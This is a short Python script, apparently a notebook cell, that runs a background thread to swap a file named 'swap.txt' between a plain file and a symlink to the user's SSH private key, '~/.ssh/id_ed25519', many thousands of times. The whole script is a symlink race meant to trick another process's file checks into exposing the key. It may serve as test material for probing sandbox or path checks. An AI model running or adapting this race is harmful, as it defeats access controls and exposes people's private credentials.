# %%
import os
import threading


def swap():
    for _ in range(50_000):
        try:
            open("swap.txt", "w").write("plain")
            os.unlink("swap.txt")
            os.symlink("@home@/.ssh/id_ed25519", "swap.txt")
            os.unlink("swap.txt")
        except OSError:
            pass


threading.Thread(target=swap, daemon=True).start()
print("prepared")
